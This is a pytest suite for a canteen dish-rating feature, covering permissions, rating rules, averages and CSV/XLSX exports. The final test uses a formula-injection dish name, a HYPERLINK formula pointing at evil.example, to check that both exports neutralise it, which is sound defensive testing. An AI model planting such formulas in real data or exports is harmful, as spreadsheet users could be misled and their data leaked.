"""Ratings: only employees, only dishes they could have eaten; the canteen sees the averages."""

import csv
import io
import re
from datetime import date, timedelta

from openpyxl import load_workbook
from sqlalchemy import event

from portal.blueprints.canteen.models import DishRating, MenuItem
from portal.extensions import db
from tests.canteen.conftest import HTMX, MONDAY, fill_week


def _item(name: str, day):
    return db.session.scalar(db.select(MenuItem).join(MenuItem.dish)
                             .where(MenuItem.day == day).where(MenuItem.dish.has(name_zh=name)))


def _rated_by_employees(client, auth, make_user, dish: str, *stars: str) -> None:
    """Monday's `dish` rated once by each of len(stars) new employees."""
    for each in stars:
        auth.login(make_user("employee"))
        client.post(f"/canteen/items/{_item(dish, MONDAY).id}/rate", data={"stars": each})
        auth.logout()


def _ratings() -> int:
    return db.session.scalar(db.select(db.func.count()).select_from(DishRating))


def test_an_employee_rates_a_dish_served_today_or_before(client, auth, make_user, week, at):
    auth.login(make_user("employee"))
    at("2026-12-02 13:00")
    monday_item = _item("宫保鸡丁", MONDAY)
    response = client.post(f"/canteen/items/{monday_item.id}/rate", data={"stars": "4"},
                           headers=HTMX)
    assert response.status_code == 200 and "您打了 4 星" in response.get_data(as_text=True)
    today_item = _item("清炒时蔬", MONDAY + timedelta(days=2))
    assert client.post(f"/canteen/items/{today_item.id}/rate",
                       data={"stars": "5"}).status_code == 303
    assert _ratings() == 2


def test_rating_again_replaces_the_first_rating(client, auth, make_user, week, at):
    auth.login(make_user("employee"))
    item = _item("宫保鸡丁", MONDAY)
    client.post(f"/canteen/items/{item.id}/rate", data={"stars": "2"})
    client.post(f"/canteen/items/{item.id}/rate", data={"stars": "5"})
    assert [r.stars for r in db.session.scalars(db.select(DishRating))] == [5]


def test_a_dish_not_served_yet_cannot_be_rated(client, auth, make_user, week, at):
    auth.login(make_user("employee"))
    at("2026-12-02 13:00")
    friday_item = _item("宫保鸡丁", MONDAY + timedelta(days=4))
    response = client.post(f"/canteen/items/{friday_item.id}/rate", data={"stars": "5"},
                           headers=HTMX)
    assert response.status_code == 422 and "data-error" in response.get_data(as_text=True)
    assert client.get(f"/canteen/rate/{MONDAY + timedelta(days=4)}").status_code == 404
    assert _ratings() == 0


def test_a_dish_on_an_unpublished_menu_cannot_be_rated(client, auth, make_user, dishes, at):
    fill_week(MONDAY, dishes, publish=False)
    auth.login(make_user("employee"))
    item = _item("宫保鸡丁", MONDAY)
    assert client.post(f"/canteen/items/{item.id}/rate", data={"stars": "5"}).status_code == 404
    assert _ratings() == 0


def test_a_dish_on_a_closed_day_cannot_be_rated(client, auth, make_user, week, at):
    from portal.blueprints.canteen import services

    services.set_day(week, MONDAY, True, False, "")
    db.session.commit()
    auth.login(make_user("employee"))
    item = _item("宫保鸡丁", MONDAY)
    assert client.post(f"/canteen/items/{item.id}/rate", data={"stars": "5"},
                       headers=HTMX).status_code == 422
    assert _ratings() == 0


def test_only_employees_rate(client, auth, make_user, week, at):
    auth.login(make_user("canteen"))
    item = _item("宫保鸡丁", MONDAY)
    assert client.post(f"/canteen/items/{item.id}/rate", data={"stars": "5"}).status_code == 403
    assert client.get(f"/canteen/rate/{MONDAY}").status_code == 403
    assert _ratings() == 0


def test_stars_outside_one_to_five_are_refused(client, auth, make_user, week, at):
    auth.login(make_user("employee"))
    item = _item("宫保鸡丁", MONDAY)
    assert client.post(f"/canteen/items/{item.id}/rate", data={"stars": "9"},
                       headers=HTMX).status_code == 422
    assert _ratings() == 0


def test_the_canteen_sees_average_and_count_per_dish(client, auth, make_user, week, at):
    _rated_by_employees(client, auth, make_user, "宫保鸡丁", "5", "3")
    auth.login(make_user("employee", "canteen"))
    html = client.get("/canteen/ratings").get_data(as_text=True)
    row = html.split("宫保鸡丁", 1)[1].split("</tr>", 1)[0]
    assert '<td class="num">4.0</td><td class="num">2</td>' in row
    assert "4.0 <span class=\"muted\">(2)</span>" in row  # this month (December 2026)


def test_the_canteen_downloads_the_ratings_as_csv_and_xlsx(client, auth, make_user, week, at):
    _rated_by_employees(client, auth, make_user, "宫保鸡丁", "5", "4")
    auth.login(make_user("employee", "canteen"))
    response = client.get("/canteen/ratings.csv")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    lines = response.get_data(as_text=True).lstrip("\ufeff").splitlines()
    assert lines[0].startswith("菜品,平均,评分,") and "2026年12月 平均" in lines[0]
    assert lines[1].startswith("宫保鸡丁,4.5,2,")
    workbook = load_workbook(io.BytesIO(client.get("/canteen/ratings.xlsx").data))
    sheet = workbook.active
    assert [c.value for c in sheet[2]][:3] == ["宫保鸡丁", 4.5, 2]
    assert client.get("/canteen/ratings.pdf").status_code == 404
    auth.logout()
    auth.login(make_user("employee"))
    assert client.get("/canteen/ratings.csv").status_code == 403


def test_the_stars_of_a_dish_are_one_labelled_group(client, auth, make_user, week, at):
    auth.login(make_user("employee"))
    html = client.get(f"/canteen/rate/{MONDAY}").get_data(as_text=True)
    item = _item("宫保鸡丁", MONDAY)
    group = re.search(r'<div class="stars" role="group" aria-labelledby="([^"]+)">'
                      r'(.*?)</div>', html, re.S)
    assert group and group.group(2).count('name="stars"') == 5
    names = [re.search(rf'id="{label}">([^<]+)<', html).group(1)
             for label in group.group(1).split()]
    assert names == ["您的评分", "小米粥"]  # the first dish of the day: breakfast
    assert f'aria-labelledby="rating-{item.id} dish-{item.id}"' in html


def _rate(user, item, stars: int, served_on) -> None:
    db.session.add(DishRating(user_id=user.id, dish_id=item.dish_id, served_on=served_on,
                              stars=stars))


def test_ratings_by_month_are_summed_in_the_database_with_month_names(client, auth, make_user,
                                                                      week, dishes, at):
    from portal.blueprints.canteen import queries

    people = [make_user("employee") for _ in range(3)]
    chicken, fish = _item("宫保鸡丁", MONDAY), _item("清蒸鲈鱼", MONDAY)
    for person, stars in zip(people, (5, 4, 3), strict=True):
        _rate(person, chicken, stars, date(2026, 12, 1))
    _rate(people[0], chicken, 1, date(2026, 10, 20))
    _rate(people[0], chicken, 2, date(2025, 12, 5))  # a year ago: overall only
    _rate(people[1], fish, 4, date(2026, 11, 30))
    db.session.commit()
    db.session.expunge_all()  # nothing cached: count what the summary really asks for

    statements = []
    listen = lambda *args: statements.append(args[2])  # noqa: E731
    event.listen(db.engine, "before_cursor_execute", listen)
    try:
        summary = queries.rating_summary(date(2026, 12, 2))
    finally:
        event.remove(db.engine, "before_cursor_execute", listen)
    assert len(statements) == 1 and "GROUP BY" in statements[0]
    by_name = {row["dish"].name_zh: row for row in summary}
    assert by_name["宫保鸡丁"]["count"] == 5 and by_name["宫保鸡丁"]["average"] == 3.0
    assert by_name["宫保鸡丁"]["months"] == [(date(2026, 10, 1), 1.0, 1),
                                          (date(2026, 11, 1), None, 0),
                                          (date(2026, 12, 1), 4.0, 3)]
    assert by_name["清蒸鲈鱼"]["months"][1] == (date(2026, 11, 1), 4.0, 1)
    assert [row["dish"].name_zh for row in summary] == ["清蒸鲈鱼", "宫保鸡丁"]

    cook = make_user("employee", "canteen")
    auth.login(cook)
    heads = re.findall(r'<th scope="col" class="num">([^<]+)</th>',
                       client.get("/canteen/ratings").get_data(as_text=True))
    assert heads[-3:] == ["2026年10月", "2026年11月", "2026年12月"]
    cook.language = "en"
    db.session.commit()
    heads = re.findall(r'<th scope="col" class="num">([^<]+)</th>',
                       client.get("/canteen/ratings").get_data(as_text=True))
    assert heads[-3:] == ["October 2026", "November 2026", "December 2026"]


def test_a_dish_named_like_a_formula_is_text_in_both_downloads(client, auth, make_user, week,
                                                               at):
    evil = '=HYPERLINK("http://evil.example/?x","y")'
    _item("宫保鸡丁", MONDAY).dish.name_zh = evil
    db.session.commit()
    _rated_by_employees(client, auth, make_user, evil, "5")
    auth.login(make_user("employee", "canteen"))
    text = client.get("/canteen/ratings.csv").get_data(as_text=True).lstrip("\ufeff")
    assert list(csv.reader(io.StringIO(text)))[1][0] == "'" + evil
    sheet = load_workbook(io.BytesIO(client.get("/canteen/ratings.xlsx").data)).active
    cell = next(c for c in sheet["A"] if c.value and "HYPERLINK" in str(c.value))
    assert cell.value == evil and cell.data_type == "s"
